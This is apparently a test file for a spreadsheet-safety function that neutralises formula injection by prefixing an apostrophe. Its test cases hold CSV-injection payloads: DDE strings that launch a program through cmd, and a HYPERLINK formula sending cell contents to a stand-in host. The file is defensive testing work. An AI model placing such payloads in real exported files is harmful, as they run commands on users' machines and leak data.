import { neutraliseFormula } from './spreadsheet-safety';

describe('neutraliseFormula', () => {
  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    [
      '=HYPERLINK("http://ejemplo.test/?d="&A2,"Ver")',
      '\'=HYPERLINK("http://ejemplo.test/?d="&A2,"Ver")',
    ],
    ['+593 99 123 4567', "'+593 99 123 4567"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('keeps %j as text by prefixing an apostrophe', (text, written) => {
    expect(neutraliseFormula(text)).toBe(written);
  });

  it.each(['María José', 'Psicología Clínica', '0991234567', 'a=b', ' =1+1', '', "'=1+1"])(
    'leaves %j as it is',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );
});
